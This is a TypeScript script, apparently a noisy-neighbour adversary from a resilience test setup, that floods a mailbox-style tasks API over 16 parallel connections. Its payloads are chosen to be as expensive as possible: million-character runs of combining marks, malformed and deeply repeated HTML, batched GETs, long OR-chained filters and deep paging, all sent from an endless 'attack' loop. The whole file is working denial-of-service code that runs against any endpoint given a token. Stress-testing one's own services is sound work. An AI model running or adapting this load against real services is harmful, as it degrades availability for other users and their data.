/**
 * An ordinary account that sends what takes a service longest, over 16 connections at full speed: runs of combining
 * marks, HTML that is slow to parse, checklists, batches of GET requests as text, filters. Any answer is welcome.
 * Environment: API (root of the mailbox), TOKEN. Prints `ready` once the first requests are answered; SIGTERM ends it.
 */
import http from 'node:http';

const { API = '', TOKEN = '' } = process.env;
const connections = 16;
const agent = new http.Agent({ keepAlive: true, maxSockets: connections });
const headers = { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' };
const asText = { prefer: 'outlook.body-content-type="text"' };

type Sent = { path: string; method?: string; body?: unknown; prefer?: string };

const html = (content: string) => ({ Subject: 'x', Body: { ContentType: 'HTML', Content: content } });
const text = (content: string) => ({ Subject: 'x', Body: { ContentType: 'Text', Content: content } });
const filled = (piece: string, length: number) => piece.repeat(Math.floor(length / piece.length));
const bodies: readonly object[] = [
  text(filled('\u0301', 1_000_000)),
  html(filled('<b>', 29_700) + filled('</x>', 970_000)),
  html(`${filled('<p>☐ x</p>', 600_000)}<${filled('a', 390_000)}`),
  html(filled('<li>☐ x</li>', 1_000_000)),
  text(filled('☐ x\n', 1_000_000)),
  { Subject: filled('a\u0301\u0323', 160_000) },
  { Subject: 'x', Categories: Array.from({ length: 100 }, (_, at) => `${at}${filled('\u0301', 250)}`) },
];
const condition = "Categories/any(c:c eq 'nothing') or ";
const filter = `${condition.repeat(Math.floor(3_900 / condition.length))}Subject eq 'nothing'`;
const order = 'DueDateTime/DateTime desc,Subject';

/** Ids of tasks with long bodies. */
const ids: string[] = [];

function requestOf(index: number): Sent {
  const id = ids[index % Math.max(1, ids.length)] ?? '';
  const body = bodies[index % bodies.length];
  switch (index % 9) {
    case 0:
    case 1:
      return ids.length < 40
        ? { path: '/tasks', method: 'POST', body }
        : { path: `/tasks('${id}')`, method: 'PATCH', body };
    case 2:
      return { path: `/tasks('${id}')`, method: 'PATCH', body: { Subject: `x${index}` } };
    case 3:
      return { path: `/tasks('${id}')`, ...asText };
    case 4: {
      const requests = Array.from({ length: 20 }, (_, at) => ({
        id: String(at),
        method: 'GET',
        url: `/me/tasks('${ids[(index + at) % Math.max(1, ids.length)] ?? ''}')`,
        headers: { Prefer: asText.prefer },
      }));
      return { path: '/$batch', method: 'POST', body: { requests } };
    }
    case 5:
      return { path: '/tasks?$top=40', ...asText };
    case 6:
      return { path: `/tasks?$filter=${encodeURIComponent(filter)}&$orderby=${encodeURIComponent(order)}&$top=1000` };
    case 7:
      return { path: `/tasks/$count?$filter=${encodeURIComponent(filter)}` };
    default:
      return { path: `/tasks?$orderby=${encodeURIComponent(order)}&$top=1000&$skip=${(index * 37) % 20_000}` };
  }
}

function send({ path, method = 'GET', body, prefer }: Sent): Promise<{ status: number; text: string }> {
  return new Promise((resolve) => {
    const options = { agent, method, headers: { ...headers, ...(prefer !== undefined && { prefer }) } };
    const request = http.request(API + path, options, (response) => {
      const pieces: Buffer[] = [];
      response.on('data', (piece: Buffer) => pieces.push(piece));
      response.on('end', () =>
        resolve({ status: response.statusCode ?? 0, text: Buffer.concat(pieces).toString('utf8') }),
      );
      response.on('error', () => resolve({ status: 0, text: '' }));
    });
    request.on('error', () => resolve({ status: 0, text: '' }));
    request.end(body === undefined ? undefined : JSON.stringify(body));
  });
}

let next = 0;
async function attack(): Promise<never> {
  for (;;) {
    const sent = requestOf((next += 1));
    const { status, text: answer } = await send(sent);
    const id = sent.method === 'POST' && status === 201 ? /"Id":"([^"]+)"/.exec(answer)?.[1] : undefined;
    if (id !== undefined) ids.push(id);
    if (next === 200) process.stdout.write('ready\n');
  }
}

process.on('SIGTERM', () => process.exit(0));
await Promise.all(Array.from({ length: connections }, attack));
